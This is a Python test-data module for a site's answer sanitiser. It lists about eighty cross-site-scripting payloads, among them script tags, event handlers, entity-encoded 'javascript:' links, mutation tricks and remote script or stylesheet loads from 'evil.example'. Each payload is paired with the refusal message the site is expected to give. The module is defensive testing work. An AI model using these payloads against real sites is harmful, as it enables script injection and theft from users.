"""Cross-site-scripting payloads, in the style of the OWASP filter-evasion cheat sheet.

Each one either calls `alert(N)` or asks for a resource outside the site, so a browser that runs
it is seen doing so. `ANSWER_VERDICTS` says what each does when written in an answer: refused,
with a fragment of the message, or accepted because Markdown shows it as text (`None`).
"""

from __future__ import annotations

SCRIPT = "scripts cannot run"
HANDLER = "event handlers run scripts"
JAVASCRIPT = "'javascript:' addresses run scripts"
VBSCRIPT = "'vbscript:' addresses run scripts"
DATA = "'data:' addresses are not allowed"
MARKUP = "HTML comments and declarations are not supported"
PICTURE = "pictures must be files of this site"
STYLE = "the attribute 'style' is not allowed"
UNCLOSED = "never closed with '>'"


def refused(tag: str) -> str:
    return f"<{tag}> is not allowed"


ANSWER_VERDICTS: dict[str, str | None] = {
    "<script>alert(1)</script>": SCRIPT,
    "<ScRiPt>alert(2)</sCrIpT>": SCRIPT,
    "<script src=//evil.example/x.js></script>": SCRIPT,
    "\"><script>alert(4)</script>": SCRIPT,
    "'><script>alert(5)</script>": SCRIPT,
    "</title><script>alert(6)</script>": SCRIPT,
    "</textarea><script>alert(7)</script>": SCRIPT,
    "</script><script>alert(8)</script>": SCRIPT,
    "<img src=x onerror=alert(9)>": HANDLER,
    "<img src=\"x\" onerror=\"alert(10)\">": HANDLER,
    "<IMG SRC=x OnErRoR=alert(11)>": HANDLER,
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;12&#41;>": HANDLER,
    "<svg onload=alert(13)>": refused("svg"),
    "<svg/onload=alert(14)>": refused("svg"),
    "<svg><script>alert(15)</script></svg>": refused("svg"),
    "<body onload=alert(16)>": refused("body"),
    "<iframe src=\"javascript:alert(17)\"></iframe>": refused("iframe"),
    "<iframe srcdoc=\"<script>alert(18)</script>\"></iframe>": refused("iframe"),
    "<object data=\"javascript:alert(19)\"></object>": refused("object"),
    "<embed src=\"javascript:alert(20)\">": refused("embed"),
    "<a href=\"javascript:alert(21)\">click</a>": JAVASCRIPT,
    "<a href=\"JaVaScRiPt:alert(22)\">click</a>": JAVASCRIPT,
    "<a href=\"jav&#x09;ascript:alert(23)\">click</a>": JAVASCRIPT,
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(24)\">click</a>": JAVASCRIPT,
    "<a href=\" javascript:alert(25)\">click</a>": JAVASCRIPT,
    "<a href=\"vbscript:msgbox(26)\">click</a>": VBSCRIPT,
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgyNyk8L3NjcmlwdD4=\">click</a>": DATA,
    "[click](javascript:alert(28))": JAVASCRIPT,
    "[click](JAVASCRIPT:alert(29))": JAVASCRIPT,
    "[click](jav&#x09;ascript:alert(30))": JAVASCRIPT,
    "[click]( javascript:alert(31) )": JAVASCRIPT,
    "[click](<javascript:alert(32)>)": JAVASCRIPT,
    "![picture](javascript:alert(33))": JAVASCRIPT,
    "![picture](https://evil.example/33.png)": PICTURE,
    "[click][evil]\n\n[evil]: javascript:alert(35)": JAVASCRIPT,
    "<javascript:alert(36)>": refused("javascript:alert(36)"),
    "[click](https://example.com){onclick=alert(37)}": HANDLER,
    "Text\n{: onclick=\"alert(38)\" }": HANDLER,
    "<details open ontoggle=alert(39)>": HANDLER,
    "<input autofocus onfocus=alert(40)>": refused("input"),
    "<form action=\"javascript:alert(41)\"><button>go</button></form>": refused("form"),
    "<button formaction=\"javascript:alert(42)\">go</button>": refused("button"),
    "<base href=\"javascript:alert(43)//\">": refused("base"),
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(44)\">": refused("meta"),
    "<style>@import 'javascript:alert(45)';</style>": refused("style"),
    "<div style=\"background:url(javascript:alert(46))\">x</div>": STYLE,
    "<link rel=\"stylesheet\" href=\"https://evil.example/47.css\">": refused("link"),
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(48)>": refused("math"),
    "<!--><img src=x onerror=alert(49)>-->": MARKUP,
    "<!-- --!><img src=x onerror=alert(50)>-->": MARKUP,
    "<![CDATA[><img src=x onerror=alert(51)>]]>": MARKUP,
    "<div>\n</ <img src=x alt=\"> <img src=y onerror=alert(52)>\">\n</div>": MARKUP,
    "<noscript><p title=\"</noscript><img src=x onerror=alert(53)>\">": refused("noscript"),
    "<xmp><img src=x onerror=alert(54)></xmp>": refused("xmp"),
    "<template><img src=x onerror=alert(55)></template>": refused("template"),
    "<scr<script>ipt>alert(56)</script>": SCRIPT,
    "<img src=x:alert(57) onerror=eval(src)>": HANDLER,
    "<video><source onerror=\"alert(58)\"></video>": refused("video"),
    "<audio src=x onerror=alert(59)>": refused("audio"),
    "<a href=\"#\" onmouseover=\"alert(60)\">x</a>": HANDLER,
    "<a href=\"java&Tab;script:alert(61)\">x</a>": JAVASCRIPT,
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(62)\">x</a>": JAVASCRIPT,  # noqa: E501 - one payload
    "<a href=\"javascript&colon;alert(63)\">x</a>": JAVASCRIPT,
    "<div markdown>\n[click](javascript:alert(64))\n</div>": JAVASCRIPT,
    "<div data-embed=\"javascript:alert(65)\" class=\"hc-video\"><a class=\"hc-video__link\">play</a></div>":
        "data-* attributes can drive the site's scripts",
    "<img src=\"//evil.example/66.png\">": PICTURE,
    "<a href=\"https://example.com/\" id=\"__config\">x</a>": "the id '__config' is not allowed",
    "<div title=\"": UNCLOSED,
    "<marquee onstart=alert(69)>x</marquee>": refused("marquee"),
    # Shown as text by Markdown, so harmless and accepted:
    "<a href=\"x\"onclick=alert(70)>x</a>": None,
    "`<script>alert(71)</script>`": None,
    "```html\n<script>alert(72)</script>\n```": None,
    "&lt;script&gt;alert(73)&lt;/script&gt;": None,
    "\\<script>alert(74)\\</script>": SCRIPT,
    "{{ alert(75) }} {{7*7}} ${alert(75)}": None,
    "javascript:alert(76) written as text": None,
    "\";alert(77);// '-alert(77)-' </script>": None,
    "[a normal link](https://example.com/?q=%3Cscript%3E)": None,
    "[click](//evil.example/79)": "is not an address the site can find",
    "<img/src=x/onerror=alert(80)>": PICTURE,
}

PAYLOADS: list[str] = list(ANSWER_VERDICTS)
"""Every payload: each is also placed in every plain-text field, where all must be shown as text."""
ACCEPTED_IN_ANSWERS = [payload for payload, verdict in ANSWER_VERDICTS.items() if verdict is None]
